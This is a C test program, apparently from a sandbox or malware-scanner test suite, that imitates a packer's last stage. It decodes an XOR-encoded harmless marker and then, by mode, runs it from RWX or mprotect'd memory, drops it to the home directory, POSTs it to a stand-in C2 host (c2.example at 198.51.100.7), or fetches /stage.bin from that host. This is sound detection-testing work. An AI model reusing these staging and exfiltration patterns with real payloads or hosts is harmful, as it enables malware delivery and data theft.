// The packer's last step, for the payload tests: a marker that exists on disk only XOR-encoded is
// decoded at run time, then (argv[1]):
//   mem   into anonymous RW memory, made R+X with mprotect and called (a ret in front of it);
//   rwx   into an anonymous RWX mapping, called, then exit (read when the process exits);
//   drop  written to $HOME/unpacked.bin;
//   post  sent as an HTTP POST body to 198.51.100.7:80 (the simulated internet);
//   get   nothing decoded: GET /stage.bin from 198.51.100.7:80 (the served payload is what is scanned);
//   none  nothing (the benign baseline: no executable memory of its own).
#include "probe.h"
#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/socket.h>

static const unsigned char encoded[] = {   // "PETRI-UNPACKED-BODY" XOR 0x5a
    0x0a, 0x1f, 0x0e, 0x08, 0x13, 0x77, 0x0f, 0x14, 0x0a, 0x1b, 0x19, 0x11, 0x1f, 0x1e, 0x77, 0x18, 0x15, 0x1e, 0x03,
};

static void decode(unsigned char *out) {
    for (size_t i = 0; i < sizeof encoded; i++) out[i] = encoded[i] ^ 0x5a;
}

int main(int argc, char **argv) {
    require_sandbox();
    const char *mode = argc > 1 ? argv[1] : "none";
    unsigned char body[64] = { 0xc3 };   // ret, then the marker
    decode(body + 1);
    if (strcmp(mode, "mem") == 0 || strcmp(mode, "rwx") == 0) {
        int rwx = mode[0] == 'r';
        int prot = PROT_READ | PROT_WRITE | (rwx ? PROT_EXEC : 0);
        unsigned char *m = mmap(NULL, 4096, prot, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (m == MAP_FAILED) { printf("mmap=%s\n", strerror(errno)); return 1; }
        memcpy(m, body, sizeof body);
        if (!rwx) result("mprotect", mprotect(m, 4096, PROT_READ | PROT_EXEC), 0);
        ((void (*)(void))(void *)m)();
        printf("called=%p\n", (void *)m);
    } else if (strcmp(mode, "drop") == 0) {
        char path[512];
        snprintf(path, sizeof path, "%s/unpacked.bin", getenv("HOME") ? getenv("HOME") : "/tmp");
        int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0600);
        if (fd < 0) { printf("open=%s\n", strerror(errno)); return 1; }
        result("write", write(fd, body + 1, sizeof encoded), 0);
        close(fd);
    } else if (strcmp(mode, "post") == 0 || strcmp(mode, "get") == 0) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(80) };
        inet_pton(AF_INET, "198.51.100.7", &a.sin_addr);
        result("connect", connect(s, (struct sockaddr *)&a, sizeof a), 0);
        char req[512];
        int n = mode[0] == 'p'
            ? snprintf(req, sizeof req, "POST /upload HTTP/1.1\r\nHost: c2.example\r\nContent-Length: %zu\r\nConnection: close\r\n\r\n%.*s",
                       sizeof encoded, (int)sizeof encoded, (const char *)body + 1)
            : snprintf(req, sizeof req, "GET /stage.bin HTTP/1.1\r\nHost: c2.example\r\nConnection: close\r\n\r\n");
        result("send", send(s, req, (size_t)n, 0), 0);
        char resp[4096];
        long got = 0, r;
        while ((r = recv(s, resp, sizeof resp, 0)) > 0) got += r;
        printf("received=%ld\n", got);
        close(s);
    }
    fflush(stdout);
    return 0;
}
